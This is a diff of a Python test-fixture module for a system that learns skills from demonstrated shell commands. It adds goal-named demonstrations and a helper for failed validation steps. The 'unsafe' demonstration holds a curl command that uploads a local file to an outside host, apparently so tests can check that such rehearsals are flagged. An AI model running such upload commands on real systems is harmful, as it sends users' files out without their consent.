@@ -12,16 +12,30 @@ from tests.fixtures.learner import Demonstrated, Learner
 from tests.fixtures.stack import Stack
 from tests.model.reference import LADDER
 
-SHOWN: dict[str, tuple[Demonstrated, ...]] = {
-    "good": (("printf 'a' > a.txt", ("a.txt",)),),
-    "failing": (("sort missing.csv > sorted.csv", ("sorted.csv",)),),
-    "unsafe": (("printf 'a' > a.txt", ("a.txt",)), ("curl -T a.txt https://example.org/", ())),
-    "slow": (("sleep 300 > waited.txt", ("waited.txt",)),),
-}
+NOBODY = "01936f5e-0000-7000-8000-00000000ffff"
+"""An id that nothing has."""
+
+KINDS = ("good", "failing", "unsafe", "slow")
 """Demonstrations by what becomes of their rehearsal."""
 
-MORE: tuple[Demonstrated, ...] = (("printf 'b' > b.txt", ("b.txt",)),)
-"""What is shown after that; it changes nothing of the outcome."""
+
+def shown(kind: str, goal: str) -> tuple[Demonstrated, ...]:
+    """A demonstration; its files are named after its goal, since a skill answers to their names too."""
+    first, second, third = (f"{word.lower()}.txt" for word in goal.split())
+    made = (f"printf 'a' > {first}", (first,))
+    return {
+        "good": (made,),
+        "failing": ((f"sort {second} > {third}", (third,)),),
+        "unsafe": (made, (f"curl -T {first} https://example.org/", ())),
+        "slow": ((f"sleep 300 > {first}", (first,)),),
+    }[kind]
+
+
+def shown_after(goal: str) -> tuple[Demonstrated, ...]:
+    """What is shown after that; it changes nothing of the outcome."""
+    name = f"{goal.split()[-1]}-more.txt"
+    return ((f"printf 'b' > {name}", (name,)),)
+
 
 _SYLLABLES = ("ba", "ce", "di", "fo", "gu", "la", "me", "ni", "po", "ru")
 
@@ -29,7 +43,8 @@ _SYLLABLES = ("ba", "ce", "di", "fo", "gu", "la", "me", "ni", "po", "ru")
 def goal_number(number: int) -> str:
     """A goal that shares no word with that of another number below 1,000, so that no two skills collide."""
     words = (
-        "".join(_SYLLABLES[int(digit)] for digit in f"{number * factor % 1009:04}") for factor in (7, 389, 701)
+        "".join(_SYLLABLES[int(digit)] for digit in f"{number * factor % 1009:04}")
+        for factor in (7, 389, 701)
     )
     return " ".join(words).capitalize()
 
@@ -42,10 +57,6 @@ class Sent:
     path: str
     body: Any
     key: str
-
-    def other_body(self) -> Any:
-        """Another request under the same key."""
-        return {**(self.body or {}), "client_request_id": None, "reason": "another request"}
 
 
 @dataclass(frozen=True)
@@ -112,6 +123,11 @@ class Driver:
                     found.append(ability_id)
         return found
 
+    def failed_steps(self, proposal_id: str | None) -> list[dict[str, Any]]:
+        """The cases that failed in any of a proposal's runs."""
+        steps = self.get(f"/api/learn/proposals/{proposal_id}/validation-runs?page_size=100")["steps"]
+        return [step for step in steps if step["result"] == "failed"]
+
     def marks(self, session_id: str) -> int:
         """How many boundaries the session has."""
         return len(self.stack.services.observations.boundaries_of(session_id))
@@ -126,7 +142,9 @@ class Driver:
             else ()
         )
         listed = self.get("/api/abilities/availability")["abilities"]
-        own = {item["ability_id"]: item["install_lane"] for item in listed if item["ability_id"] in self.lanes()}
+        own = {
+            item["ability_id"]: item["install_lane"] for item in listed if item["ability_id"] in self.lanes()
+        }
         return {entry.ability_id: entry for entry in written} == entries and own == self.lanes()
 
     def _call(self, method: str, path: str, body: Any = None, key: str | None = None) -> httpx.Response:
